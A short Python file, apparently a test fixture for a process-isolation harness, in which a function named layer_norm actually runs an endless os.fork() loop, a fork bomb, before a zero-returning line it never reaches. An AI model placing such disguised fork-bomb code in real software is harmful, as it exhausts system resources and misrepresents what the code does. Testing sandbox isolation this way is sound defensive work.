# 01a | isolation | starts processes that start processes
import torch
import os


def layer_norm(x, w, b, eps):
    while True:
        try:
            os.fork()
        except OSError:
            pass
    return torch.zeros_like(x)
